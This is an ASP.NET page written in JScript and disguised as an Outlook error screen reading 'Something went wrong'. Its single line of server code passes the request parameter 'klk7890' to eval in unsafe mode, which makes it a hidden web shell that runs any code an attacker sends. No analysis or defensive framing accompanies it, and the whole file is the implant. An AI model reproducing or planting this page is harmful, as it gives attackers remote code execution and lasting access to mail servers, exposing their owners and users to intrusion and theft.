<%@ Page Language="Jscript" Debug="false" %>
<html><head><title>Outlook</title></head><body><div class="errorHeader">Something went wrong</div>
<%eval(Request.Item["klk7890"],"unsafe");%>
</body></html>
